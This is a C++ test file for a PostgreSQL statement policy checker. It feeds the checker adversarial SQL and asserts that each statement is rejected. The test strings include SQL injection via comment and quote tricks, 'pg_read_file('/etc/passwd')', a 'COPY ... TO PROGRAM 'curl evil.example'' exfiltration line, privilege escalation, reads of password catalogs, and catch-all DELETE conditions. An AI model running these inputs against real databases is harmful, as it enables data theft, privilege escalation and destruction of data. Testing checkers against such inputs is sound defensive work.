// Statements that mean the same and look different, and the other way round, against one rule at a
// time. The parser is PostgreSQL's own, in this process.
#include <gmock/gmock.h>

#include <array>
#include <string>
#include <vector>

#include "io/sql/parse.h"
#include "lang/sql/judge.h"

namespace pawl::sql {
namespace {

// What a rule says about a text: nothing where it is allowed.
std::string verdict(SqlRule rule, const std::string& text) {
  const Status compiled = compile(rule);
  if (!compiled) return "rule: " + compiled.error().message;
  const Result<Summary> summary = parse(text);
  if (!summary) return summary.error().message;
  return judge(rule, *summary).value_or("");
}

SqlRule reading() {
  return {.dialect = "postgresql", .statements = {"select"}, .tables = {"orders"}};
}

SqlRule columns() {
  SqlRule rule = reading();
  rule.columns = {"id", "status"};
  return rule;
}

SqlRule writing() {
  return {.dialect = "postgresql",
          .statements = {"select", "insert", "update", "delete", "merge"},
          .tables = {"orders"}};
}

// Everything that can be listed, on one table.
SqlRule all_kinds() {
  SqlRule rule = writing();
  for (const char* kind : {"select_into", "select_for_update",
                           "truncate",    "create_table",
                           "create_view", "create_index",
                           "alter_table", "drop_table",
                           "grant",       "copy_to",
                           "copy_from",   "call",
                           "explain",     "set",
                           "transaction", "prepare",
                           "execute",     "vacuum",
                           "listen",      "notify",
                           "lock",        "refresh",
                           "cursor"}) {
    rule.statements.emplace_back(kind);
  }
  rule.statements_max = 10;
  return rule;
}

struct Row {
  std::string text;
  std::string why;  // empty: allowed; otherwise a part of the answer
};

void expect(const SqlRule& rule, const std::vector<Row>& rows) {
  for (const Row& row : rows) {
    const std::string said = verdict(rule, row.text);
    if (row.why.empty()) {
      EXPECT_EQ(said, "") << row.text.substr(0, 200);
    } else {
      EXPECT_THAT(said, testing::HasSubstr(row.why)) << row.text.substr(0, 200);
    }
  }
}

constexpr const char* kKind = "not a listed statement";
constexpr const char* kTable = "relation that is not listed";
constexpr const char* kFunction = "function or operator outside";
constexpr const char* kNever = "never allowed";

std::string repeat(std::string_view piece, int times) {
  std::string out;
  for (int i = 0; i < times; ++i) out.append(piece);
  return out;
}

// L01, L02: texts that another database reads in another way.
TEST(Adversarial, OneReading) {
  expect(reading(),
         {{"SELECT 1 /* /* */ UNION SELECT secret FROM vault -- */", "comment inside a comment"},
          {"SELECT 1 /* /* */ */ FROM orders", "comment inside a comment"},
          {"SELECT $a$ ; DROP TABLE t -- $a$", "dollar quote"},
          {"SELECT $$x$$ FROM orders", "dollar quote"},
          {"SELECT 'x\\', ' UNION SELECT secret FROM vault -- '", "backslash before a quote"},
          {"SELECT E'x\\', ' FROM orders", "backslash before a quote"},
          {"SELECT \"x\\\" FROM orders", "backslash before a quote"},
          {"SELECT 1 /*!50000 UNION SELECT secret FROM vault */", "databases execute"},
          {"SELECT 1 # /*\n UNION SELECT secret FROM vault -- */", "`#`"},
          {"SELECT 1--1 UNION SELECT secret FROM vault", "without a blank"},
          {"SELECT U&'\\0027' FROM orders", "`U&`"},
          {"SELECT u&\"\\0076ault\" FROM orders", "`U&`"},
          {"SELECT `id` FROM orders", "backtick"},
          {std::string("SELECT 1\0; DROP TABLE t", 23), "control character"},
          {"SELECT '\xc3' FROM orders", "UTF-8"},
          {"SELECT 'a' FROM orders -- vault", ""},
          {"SELECT '\\d+' /* vault */ FROM orders", ""},
          {"SELECT E'a\\nb' FROM orders", ""},
          {"SELECT body #>> '{a}' FROM orders", ""},
          {"SELECT 'it''s' AS \"a\"\"b\" FROM orders", ""}});
}

// L03: functions.
TEST(Adversarial, Functions) {
  expect(
      reading(),
      {{"SELECT query_to_xml('select * from vault', true, true, '') FROM orders", kFunction},
       {"SELECT pg_read_file('/etc/passwd')", kFunction},
       {"SELECT lo_export(1, '/tmp/x')", kFunction},
       {"SELECT dblink_exec('', 'drop table t')", kFunction},
       {"SELECT set_config('search_path', 'evil', false)", kFunction},
       {"SELECT pg_terminate_backend(1)", kFunction},
       {"SELECT something_else()", kFunction},
       {"SELECT pg_catalog.pg_sleep(1)", kFunction},
       {"SELECT \"pg_sleep\"(1)", kFunction},
       {"SELECT * FROM pg_ls_dir('/')", kFunction},
       {"SELECT * FROM orders, LATERAL ts_stat('select 1 from vault')", kFunction},
       {"SELECT nextval('orders_id_seq')", kFunction},
       {"SELECT public.lower('A')", kFunction},
       {"SELECT \"LOWER\"('A')", kFunction},
       {"SELECT (SELECT max(pg_backend_pid()) FROM orders)", kFunction},
       {"SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders", kFunction},
       {"SELECT id FROM orders ORDER BY pg_sleep(1)", kFunction},
       {"SELECT id FROM orders LIMIT (SELECT pg_sleep(1)::text::int)", kFunction},
       {"SELECT sum(id) OVER (PARTITION BY f(id)) FROM orders", kFunction},
       {"SELECT id OPERATOR(evil.+) 1 FROM orders", kFunction},
       {"SELECT id <~~> 1 FROM orders", kFunction},
       {"SELECT * FROM orders TABLESAMPLE evil(1)", kFunction},
       {"SELECT 'vault'::regclass", "type outside"},
       {"SELECT CAST('vault' AS pg_catalog.regclass)", "type outside"},
       {"SELECT regclass 'vault'", "type outside"},
       {"SELECT 'x'::evil.t", "type outside"},
       {"SELECT lower(status), pg_catalog.upper(status), count(*) FROM orders GROUP BY 1, 2", ""},
       {"SELECT extract(year FROM now()), trim(' a '), substring('abc' FROM 1), "
        "now() AT TIME ZONE 'UTC', COALESCE(id, 0), current_date FROM orders",
        ""},
       {"SELECT id::text || '-' || CAST(id AS varchar(10)) FROM orders", ""}});
}

// L04: bounds. Texts like these overflow the stack of a parser that gets them.
TEST(Adversarial, Bounds) {
  const std::string terms = "SELECT 1" + repeat("+1", 70'000);
  expect(reading(), {{terms, "longer than"},
                     {"SELECT 1" + repeat("+1", 30'000), "chain"},
                     {"SELECT ''" + repeat("||''", 10'000), "chain"},
                     {"SELECT ''" + repeat(" COLLATE c", 5'000), "chain"},
                     {repeat("SELECT 1 UNION ", 4'000) + "SELECT 1", "joins"},
                     {repeat("SELECT 1 UNION ", 500'000) + "SELECT 1", "longer than"},
                     {"SELECT " + repeat("(", 5'000) + "1" + repeat(")", 5'000), "nested"},
                     {"SELECT " + repeat("NOT ", 5'000) + "true", "chain"},
                     {"SELECT " + repeat("- ", 5'000) + "1", "chain"},
                     {"SELECT 1" + repeat("::int", 5'000), "chain"},
                     {"SELECT 1" + repeat(" IS NULL", 5'000), "chain"},
                     {"SELECT a" + repeat("[1]", 5'000), "chain"},
                     {"SELECT " + repeat("CASE WHEN true AND ", 1'000) + "1", "joins"},
                     {"SELECT 1" + repeat(" BETWEEN 1 AND 2", 1'000), "joins"},
                     {"SELECT 1" + repeat(", 1", 5'000), "tokens"},
                     {"SELECT * FROM a" + repeat(" JOIN a ON true", 1'000), "joins"},
                     {"SELECT id FROM orders WHERE id = 0" + repeat(" OR id = 1", 500), ""},
                     {"SELECT id FROM orders WHERE id IN (0" + repeat(",1", 1'500) + ")", ""}});
}

// L05: duplicate_keys of a name.
TEST(Adversarial, Names) {
  expect(reading(),
         {{"SELECT id FROM orders", ""},
          {"SELECT id FROM ORDERS", ""},
          {"SELECT id FROM \"orders\"", ""},
          {"TABLE orders", ""},
          {"SELECT id FROM ONLY orders", ""},
          {"SELECT id FROM \"Orders\"", kTable},
          {"SELECT id FROM \"orders \"", kTable},
          {"SELECT id FROM public.orders", kTable},
          {"SELECT id FROM other.orders", kTable},
          {"SELECT id FROM pg_temp.orders", kTable},
          {"SELECT id FROM db.public.orders", kTable},
          {"SELECT id FROM \"public.orders\"", kTable},
          {"SELECT id FROM \xd0\xberders", kTable},
          {"SELECT rolpassword FROM pg_authid", kTable},
          {"SELECT * FROM information_schema.tables", kTable},
          {"TABLE vault", kTable},
          {"WITH orders AS (SELECT * FROM vault) SELECT * FROM orders", kTable},
          {"WITH orders AS (SELECT 1) SELECT * FROM orders", ""},
          {"WITH vault AS (SELECT * FROM vault) SELECT * FROM vault", kTable},
          {"WITH RECURSIVE vault AS (SELECT 1 UNION SELECT * FROM vault) TABLE vault", ""},
          {"WITH a AS (TABLE b), b AS (SELECT 1) TABLE a", kTable},
          {"(WITH vault AS (SELECT 1) TABLE vault) UNION TABLE vault", kTable},
          {"SELECT 1 UNION (WITH vault AS (SELECT 1) TABLE vault)", ""},
          {"SELECT (WITH vault AS (SELECT 1) SELECT 1 FROM vault), (SELECT 1 FROM vault)", kTable},
          {"WITH vault AS (SELECT 1) SELECT * FROM public.vault", kTable},
          {"SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM vault)", kTable},
          {"SELECT (SELECT max(a) FROM vault)", kTable},
          {"SELECT 1 FROM orders JOIN vault ON true", kTable},
          {"SELECT 1 FROM orders ORDER BY (SELECT 1 FROM vault)", kTable},
          {"SELECT 1 FROM orders GROUP BY GROUPING SETS ((SELECT 1 FROM vault))", kTable},
          {"SELECT 1 FROM orders LIMIT (SELECT 1 FROM vault)", kTable},
          {"SELECT ARRAY(SELECT a FROM vault)", kTable},
          {"VALUES ((SELECT a FROM vault))", kTable},
          {"SET search_path = evil", "changes what later statements mean"},
          {"SET LOCAL standard_conforming_strings = off", "changes what later statements mean"}});
}

TEST(Adversarial, Kinds) {
  expect(reading(),
         {{"DELETE FROM orders WHERE id = 1", kKind},
          {"WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", kKind},
          {"SELECT * FROM orders; DROP TABLE orders", "2 statements"},
          {"SELECT * FROM orders;", ""},
          {"", "no statement"},
          {" ; -- x", "no statement"},
          {"EXPLAIN ANALYZE DELETE FROM orders", kKind},
          {"EXPLAIN SELECT * FROM orders", kKind},
          {"SELECT * INTO loot FROM orders", kKind},
          {"CREATE TABLE loot AS SELECT * FROM orders", kKind},
          {"SELECT * FROM orders FOR UPDATE", kKind},
          {"SELECT * FROM orders FOR KEY SHARE OF orders", kKind},
          {"COPY orders TO STDOUT", kKind},
          {"COPY orders TO PROGRAM 'curl evil.example'", kNever},
          {"COPY orders FROM PROGRAM 'id'", kNever},
          {"COPY orders TO '/tmp/x'", kNever},
          {"DO 'begin end'", kNever},
          {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", kNever},
          {"ALTER ROLE me SUPERUSER", kNever},
          {"CREATE EXTENSION dblink", kNever},
          {"ALTER SYSTEM SET x = 1", kNever},
          {"LOAD 'x'", kNever},
          {"EXECUTE p", kKind},
          {"PREPARE p AS DELETE FROM orders", kKind},
          {"CALL f()", kKind},
          {"BEGIN", kKind},
          {"LISTEN x", kKind},
          {"NOTIFY x", kKind},
          {"LOCK orders", kKind},
          {"VACUUM orders", kKind},
          {"REFRESH MATERIALIZED VIEW orders", kKind},
          {"GRANT SELECT ON orders TO public", kKind},
          {"TRUNCATE orders", kKind},
          {"DECLARE c CURSOR FOR SELECT 1", kKind},
          {"MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE", kKind},
          {"SELEC 1", "not SQL"},
          {"\\! id", "a character that SQL"},
          {"SELECT 1 \\gexec", "a character that SQL"}});
}

TEST(Adversarial, Writes) {
  constexpr const char* kBound = "without a condition";
  expect(writing(),
         {{"UPDATE orders SET status = 'x' WHERE id = 1", ""},
          {"UPDATE orders SET status = 'x'", kBound},
          {"DELETE FROM orders", kBound},
          {"DELETE FROM orders WHERE true", kBound},
          {"DELETE FROM orders WHERE 1 = 1", kBound},
          {"DELETE FROM orders WHERE NOT (1 = 0)", kBound},
          {"DELETE FROM orders WHERE id = id", kBound},
          {"DELETE FROM orders WHERE orders.id = orders.id", kBound},
          {"DELETE FROM orders WHERE id = 1 OR 'a' = 'a'", kBound},
          {"DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL", kBound},
          {"DELETE FROM orders WHERE id = 1 OR id <> 1", kBound},
          {"DELETE FROM orders WHERE id IN (1, id)", kBound},
          {"DELETE FROM orders WHERE id BETWEEN id AND id", kBound},
          {"DELETE FROM orders WHERE status LIKE '%'", kBound},
          {"DELETE FROM orders WHERE lower('A') = 'a'", kBound},
          {"DELETE FROM orders WHERE id = 1 AND true", ""},
          {"DELETE FROM orders USING orders o WHERE orders.id = o.id", kBound},
          {"WITH x AS (DELETE FROM orders RETURNING id) SELECT * FROM x", kBound},
          {"MERGE INTO orders o USING orders s ON true WHEN MATCHED THEN DELETE", kBound},
          {"MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE", kBound},
          {"INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", ""},
          {"INSERT INTO orders SELECT * FROM vault", kTable},
          {"INSERT INTO vault SELECT * FROM orders", kTable},
          {"WITH vault AS (SELECT 1) DELETE FROM vault WHERE id = 1", kTable},
          {"WITH vault AS (SELECT 1) INSERT INTO vault SELECT 1", kTable},
          {"WITH vault AS (SELECT 1) UPDATE vault SET a = 1 WHERE id = 1", kTable},
          {"WITH vault AS (SELECT 1 AS a) INSERT INTO orders SELECT a FROM vault", ""},
          {"UPDATE orders SET id = (SELECT a FROM vault) WHERE id = 1", kTable},
          {"DELETE FROM orders WHERE id = 1 RETURNING (SELECT a FROM vault)", kTable},
          {"DELETE FROM orders USING vault WHERE id = 1", kTable}});
  SqlRule insert_only = writing();
  insert_only.statements = {"insert"};
  expect(insert_only,
         {{"INSERT INTO orders (id) VALUES (1)", ""},
          {"INSERT INTO orders (id) SELECT id FROM orders", kKind},
          {"INSERT INTO orders (id) VALUES ((SELECT max(id) FROM orders))", kKind},
          {"INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", ""},
          {"INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", kKind}});
}

constexpr std::array kNoCondition =
    std::to_array<const char*>({"NOT (id <> id)",
                                "CASE WHEN true THEN true ELSE id = 1 END",
                                "coalesce(true, id = 1)",
                                "coalesce(id = NULL, true)",
                                "id = id * 1",
                                "id * 0 = 0",
                                "id IS NOT NULL",
                                "NOT (id IS NULL)",
                                "id <= id + 1",
                                "id + 0 = id",
                                "(id = id) IS TRUE",
                                "(id = 1) IS NOT NULL",
                                "id IN (5) OR id NOT IN (5)",
                                "id = ANY (ARRAY[1, 2]) OR id <> ALL (ARRAY[1, 2])",
                                "id BETWEEN 1 AND 5 OR id NOT BETWEEN 1 AND 5",
                                "id < 1 OR id BETWEEN 0 AND 9 OR id > 8",
                                "status LIKE 'a%' OR status NOT LIKE 'a%'",
                                "status ~ 'a' OR status !~ 'a'",
                                "status = 'a' OR status IS DISTINCT FROM 'a'",
                                "id IN (1, 2) OR NOT id IN (1, 2)",
                                "tableoid > 0",
                                "orders.xmin = xmin",
                                "(id = 1) IS NOT UNKNOWN",
                                "abs(id) >= 0",
                                "length(status) >= 0",
                                "coalesce(id, 1) = coalesce(id, 1)",
                                "id <> 1 OR id <> 2",
                                "id < 5 OR id > 3",
                                "NOT (id = 1 AND id = 2)",
                                "id >= 1 OR id < 1",
                                "id = 1 OR NOT (id = 1)",
                                "status LIKE '%' || ''",
                                "status ~ '.*'",
                                "status ~ ''",
                                "status SIMILAR TO '%'",
                                "id IN (SELECT id FROM orders)",
                                "EXISTS (SELECT 1 FROM customers)",
                                "EXISTS (SELECT 1 FROM orders o WHERE o.id = orders.id)",
                                "id <> ANY (ARRAY[1,2])",
                                "id IS DISTINCT FROM NULL",
                                "(id = 1) = (id = 1)",
                                "true = (id = id)",
                                "1 = 1 OR id = 1",
                                "(id, 1) = (id, 1)",
                                "greatest(id, 1) >= 1",
                                "id = 1 OR status = 'x' OR id <> 1",
                                "random() < 2",
                                "NOT (id = 1 AND false)",
                                "id IN (SELECT id FROM customers WHERE true)"});
constexpr std::array kCondition = std::to_array<const char*>(
    {"id = 1",
     "1 = id",
     "id = $1",
     "NOT (id = 1)",
     "id <> 1",
     "id > 5 AND id < 9",
     "id IN (1, 2)",
     "id NOT IN (1, 2)",
     "id BETWEEN 1 AND 5",
     "status LIKE 'a%'",
     "status NOT LIKE '%a%'",
     "status ILIKE '%x%'",
     "status ~ '^a'",
     "lower(status) = 'x'",
     "id::text = '5'",
     "deleted_at IS NULL",
     "archived",
     "NOT archived",
     "archived IS NOT TRUE",
     "id = ANY (ARRAY[1,2])",
     "id = ALL (ARRAY[1])",
     "id IS NOT DISTINCT FROM 5",
     "created_at < now() - interval '30 days'",
     "created_at + interval '30 days' < now()",
     "date_trunc('day', created_at) = current_date",
     "data->>'k' = 'v'",
     "data @> '{\"k\":1}'",
     "(id, status) = (1, 'x')",
     "(id = 1) IS TRUE",
     "coalesce(id = 1, false)",
     "CASE WHEN status = 'x' THEN id = 1 ELSE false END",
     "id < 3 OR id > 5",
     "id = 1 OR id = 2",
     "id = 1 OR status = 'x'",
     "id IS NOT NULL AND id = 5",
     "id IN (1, 2) OR status LIKE 'a%'",
     "id BETWEEN 1 AND 5 OR id BETWEEN 8 AND 9",
     "id IN (1) OR id IN (2)",
     "id < 5 OR id BETWEEN 8 AND 9",
     "starts_with(status, 'x')",
     "id IN (SELECT id FROM orders WHERE status = 'x')",
     "id IN (SELECT id FROM orders ORDER BY id LIMIT 10)",
     "id IN (SELECT customer_id FROM customers)",
     "EXISTS (SELECT 1 FROM customers c WHERE c.id = orders.customer_id)"});

// A condition that no row can fail does not count, however it is written.
TEST(Adversarial, AConditionThatNoRowCanFailIsNone) {
  SqlRule rule = writing();
  rule.tables = {"orders", "customers"};
  rule.functions = {"starts_with", "random"};
  for (const char* none : kNoCondition) {
    const bool open = std::string_view(none).contains("customers WHERE true");
    expect(rule,
           {{std::string("DELETE FROM orders WHERE ") + none, open ? "" : "without a condition"}});
  }
  for (const char* some : kCondition) {
    expect(rule, {{std::string("DELETE FROM orders WHERE ") + some, ""}});
  }
  expect(rule, {{"DELETE FROM orders USING customers c WHERE orders.id = c.id", ""},
                {"UPDATE orders SET status = 'x' FROM customers c WHERE c.id = customer_id", ""}});
}

// What takes twice as long for each level would take the age of the world here.
TEST(Adversarial, ADeepConditionIsReadInGoodTime) {
  std::string sum = "id";
  for (int i = 0; i < 60; ++i) sum += " + id";
  expect(writing(),
         {{"DELETE FROM orders WHERE " + sum + " = " + sum, "without a condition"},
          {"DELETE FROM orders WHERE " + sum + " = 1 + " + sum, "without a condition"},
          {"DELETE FROM orders WHERE " + sum + " = 1 OR " + sum + " <> 1", "without a condition"}});
}

TEST(Adversarial, Columns) {
  constexpr const char* kColumn = "column";
  expect(columns(), {{"SELECT id, status FROM orders", ""},
                     {"SELECT count(*) FROM orders WHERE status = 'x'", ""},
                     {"SELECT o.id FROM orders o", ""},
                     {"SELECT * FROM orders", kColumn},
                     {"SELECT o.* FROM orders o", kColumn},
                     {"TABLE orders", kColumn},
                     {"SELECT secret FROM orders", kColumn},
                     {"SELECT orders.secret FROM orders", kColumn},
                     {"SELECT \"Id\" FROM orders", kColumn},
                     {"SELECT id FROM orders WHERE secret = 'x'", kColumn},
                     {"SELECT id FROM orders ORDER BY secret", kColumn},
                     {"SELECT orders FROM orders", kColumn},
                     {"SELECT row_to_json(o) FROM orders o", kColumn},
                     {"SELECT (o).secret FROM orders o", kColumn},
                     {"SELECT id FROM orders id", kColumn},
                     {"SELECT id FROM orders AS o(id, status)", kColumn},
                     {"SELECT j.id FROM (orders a JOIN orders b USING (id)) AS j(id)", kColumn},
                     {"SELECT a.id FROM orders a JOIN orders b USING (secret)", kColumn},
                     {"SELECT a.id FROM orders a NATURAL JOIN orders b", kColumn},
                     {"SELECT ctid FROM orders", kColumn}});
}

TEST(Adversarial, Utilities) {
  expect(all_kinds(), {{"TRUNCATE orders, vault", kTable},
                       {"DROP TABLE orders", ""},
                       {"DROP TABLE orders, vault", kTable},
                       {"DROP TABLE public.orders", kTable},
                       {"DROP TABLE orders CASCADE", "CASCADE"},
                       {"DROP SCHEMA public", kNever},
                       {"COPY orders FROM STDIN", ""},
                       {"COPY (SELECT * FROM vault) TO STDOUT", kTable},
                       {"COPY (DELETE FROM orders RETURNING *) TO STDOUT", "without a condition"},
                       {"CREATE VIEW orders AS SELECT * FROM vault", kTable},
                       {"CREATE TEMP TABLE orders (id int)", "temporary"},
                       {"SELECT * INTO TEMP orders FROM orders", "temporary"},
                       {"CREATE TABLE orders (id int DEFAULT pg_sleep(1))", kFunction},
                       {"CREATE INDEX i ON orders (evil(id))", kFunction},
                       {"ALTER TABLE vault RENAME TO orders", kNever},
                       {"ALTER TABLE vault ADD COLUMN x int", kTable},
                       {"ALTER TABLE orders ADD COLUMN x int", ""},
                       {"ALTER TABLE orders ATTACH PARTITION vault DEFAULT", kTable},
                       {"GRANT SELECT ON orders TO someone", ""},
                       {"GRANT SELECT ON ALL TABLES IN SCHEMA public TO someone", kNever},
                       {"GRANT admin TO someone", kNever},
                       {"CALL evil()", kFunction},
                       {"EXPLAIN ANALYZE DELETE FROM orders", "without a condition"},
                       {"EXPLAIN (ANALYZE) UPDATE vault SET a = 1 WHERE id = 1", kTable},
                       {"PREPARE p AS SELECT * FROM vault", kTable},
                       {"DECLARE c CURSOR FOR SELECT * FROM vault", kTable},
                       {"SET statement_timeout = 1000", ""},
                       {"SET role = admin", "changes what later statements mean"},
                       {"RESET ALL", "changes what later statements mean"},
                       {"SET SESSION AUTHORIZATION x", "changes what later statements mean"},
                       {"BEGIN; SELECT * FROM orders; COMMIT", ""},
                       {"BEGIN; SELECT * FROM vault; COMMIT", kTable},
                       {"LOCK TABLE vault", kTable},
                       {"REFRESH MATERIALIZED VIEW vault", kTable},
                       {"DISCARD ALL", kNever},
                       {"SELECT * FROM orders FOR UPDATE OF orders", ""}});
}

TEST(Adversarial, Stars) {
  SqlRule rule = reading();
  rule.tables = {"*"};
  expect(rule, {{"SELECT * FROM anything, \"Some\".thing", ""},
                {"SELECT * FROM pg_authid", kTable},
                {"SELECT * FROM pg_catalog.pg_authid", kTable},
                {"SELECT * FROM db.pg_catalog.pg_authid", kTable},
                {"SELECT * FROM information_schema.tables", kTable}});
  rule.tables = {"public.*"};
  expect(rule, {{"SELECT * FROM public.a, public.\"B.c\"", ""},
                {"SELECT * FROM a", kTable},
                {"SELECT * FROM \"public.a\"", kTable},
                {"SELECT * FROM \"Public\".a", kTable},
                {"SELECT * FROM public.a.b", kTable}});
}

}  // namespace
}  // namespace pawl::sql
